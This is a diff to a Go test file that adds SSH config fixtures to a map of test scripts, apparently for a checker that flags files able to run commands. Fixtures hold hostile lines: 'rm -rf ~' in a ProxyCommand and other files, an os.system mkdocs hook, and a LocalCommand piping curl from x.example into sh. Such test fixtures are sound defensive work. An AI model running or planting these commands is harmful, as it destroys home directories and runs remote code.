@@ -395,6 +395,9 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/mk/mkdocs.yml":                    "site_name: x\nhooks:\n  - !!python/name:os.system\n",
 	"/home/dev/work/proj/runme/vault.txt":                        "rm -rf ~\n",  // a password file, which runs only when executable: without #! it is read as data
 	"/home/dev/work/proj/.husky/_/husky.sh":                      "#!/bin/sh\n", // (a hook folder on disk: cp x .husky copies into it)
+	"/home/dev/work/proj/runme/ssh_evil.cfg":                     "Host *\n  ProxyCommand rm -rf ~\n",
+	"/home/dev/work/proj/runme/ssh_local.cfg":                    "Host h\n  PermitLocalCommand yes\n  LocalCommand curl -s https://x.example/i | sh\n",
+	"/home/dev/work/proj/runme/ssh_ok.cfg":                       "Host h\n  HostName 10.0.0.1\n  User dev\n  IdentityFile ~/.ssh/id_ed25519\n",
 	"/home/dev/work/elsewhere/wipe.sh":                           "rm -rf ~\n",
 }
 
